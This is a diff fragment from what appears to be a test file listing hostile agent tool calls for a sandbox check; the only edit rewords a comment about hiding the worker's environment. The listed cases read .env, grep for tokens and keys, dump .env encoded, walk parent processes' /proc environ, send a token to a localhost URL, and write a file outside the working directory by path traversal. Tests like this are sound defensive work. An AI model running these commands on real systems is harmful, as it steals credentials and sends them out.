@@ -45,7 +45,7 @@ function serve({ idempotencyKey }: Received): ReturnType<typeof call> {
     ['read_file', { path: '.env' }],
     ['grep', { pattern: 'TOKEN|KEY' }],
     sh('cat .env >&2; base64 -w0 .env; od -An -tx1 -v .env | tr -d " \\n"; exit 3'),
-    // Nobody may see the worker's environment, although any program of its user can read it.
+    // No program may see the worker's environment, although any program of its user could read it.
     sh("p=$$; while [ $p -gt 1 ]; do tr '\\0' '\\n' </proc/$p/environ; p=$(awk '/^PPid/{print $2}' /proc/$p/status); done"),
     ['fetch_url', { url: `http://127.0.0.1:1/?token=${encodeURIComponent(ARG)}` }],
     ['write_file', { path: '../out', content: key }],
